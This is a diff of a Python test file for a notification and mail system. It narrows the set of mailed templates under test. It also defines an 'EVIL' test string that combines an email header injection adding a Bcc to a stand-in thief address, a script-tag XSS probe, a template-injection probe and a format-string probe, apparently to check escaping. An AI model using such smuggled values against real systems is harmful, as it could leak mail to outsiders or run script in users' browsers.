@@ -19,14 +19,13 @@ from notifications.addressees import Addressee
 from notifications.channels import Letter, mail
 from notifications.duty_words import DUTY_WORDS, IN_THE_FILE
 from notifications.notices import NOTICES
-from notifications.notices.contacts import ContactCode
 from notifications.preview import BY_SMS_ALONE
 from portal.duties import DUTY_PAGES
 from rules.binding import says_whom_it_binds
 from rules.duties import Duty
 from rules.mornings import MailSection, Side
 
-MAILED = sorted(set(NOTICES) - {ContactCode.template, *(each.template for each in BY_SMS_ALONE)})
+MAILED = sorted(set(NOTICES) - {each.template for each in BY_SMS_ALONE})
 EVERY_MAIL = pytest.mark.parametrize("template", MAILED)
 EVERY_LANGUAGE = pytest.mark.parametrize("language", LANGUAGES)
 EVIL = "x\r\nBcc: thief@evil.example\u2028<script>alert(1)</script>{{ 7*7 }}%(case)s"
